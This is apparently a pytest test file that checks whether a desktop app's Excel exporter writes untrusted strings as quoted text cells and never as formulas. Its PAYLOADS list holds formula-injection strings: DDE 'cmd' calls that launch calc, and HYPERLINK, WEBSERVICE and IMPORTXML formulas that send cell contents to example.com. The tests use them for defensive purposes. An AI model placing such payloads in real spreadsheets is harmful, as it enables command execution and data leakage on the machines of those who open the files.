"""Naughty texts out to Excel: every one a text, none a formula, nothing lost that can be held."""

import io
import re
import zipfile
from dataclasses import replace

import openpyxl
import pytest

from tests.exchange.drafts import APPLICANTS, YEAR, read_here
from tests.naughty import BY_KIND, NAUGHTY
from xinzhou_desktop.exchange import workbook
from xinzhou_desktop.exchange.cells import clean
from xinzhou_desktop.exchange.yearbook import Sheet, yearbook

PAYLOADS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.com/?"&A1,"点这里")',
    '=WEBSERVICE("http://example.com")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
)
ALL = [*NAUGHTY, *PAYLOADS]
FORMULA = re.compile(rb"<(?:\w+:)?f[ />]")


def sheets_of(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]


def test_every_text_of_the_year_is_a_text():
    content = yearbook("工作簿", [Sheet("表", ("文字", "名称"), [(t, t) for t in ALL], note="=1")])
    assert not any(FORMULA.search(sheet) for sheet in sheets_of(content))
    sheet = openpyxl.load_workbook(io.BytesIO(content))["表"]
    for row, text in enumerate(ALL, 4):
        for cell in (sheet.cell(row, 1), sheet.cell(row, 2)):
            if not clean(text):
                assert cell.value is None
                continue
            assert cell.data_type == "s", ascii(text)
            assert cell.quotePrefix, ascii(text)
            assert cell.value.split() == clean(text).split(), ascii(text)


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_a_payload_may_stand_anywhere(text):
    content = yearbook(text, [Sheet(text, (text,), [(text,)], note=text)])
    assert not any(FORMULA.search(sheet) for sheet in sheets_of(content))


def test_the_template_holds_no_formula_either():
    rows = [
        replace(APPLICANTS[0], name=text, recommended_by=text, organisation={"contact": text})
        for text in (*BY_KIND["formula"], *PAYLOADS)
    ]
    content = workbook.fill(YEAR, [text for text in ALL if text.strip()], rows)
    assert not any(FORMULA.search(sheet) for sheet in sheets_of(content))


def test_what_goes_out_comes_back(tmp_path):
    texts = [t for t in BY_KIND["script injection"] if t == t.strip() and t]
    path = tmp_path / "往返.xlsx"
    path.write_bytes(workbook.fill(YEAR, (), [replace(APPLICANTS[0], name=t) for t in texts]))
    assert [row.name for row in read_here(path, YEAR).applicants] == texts
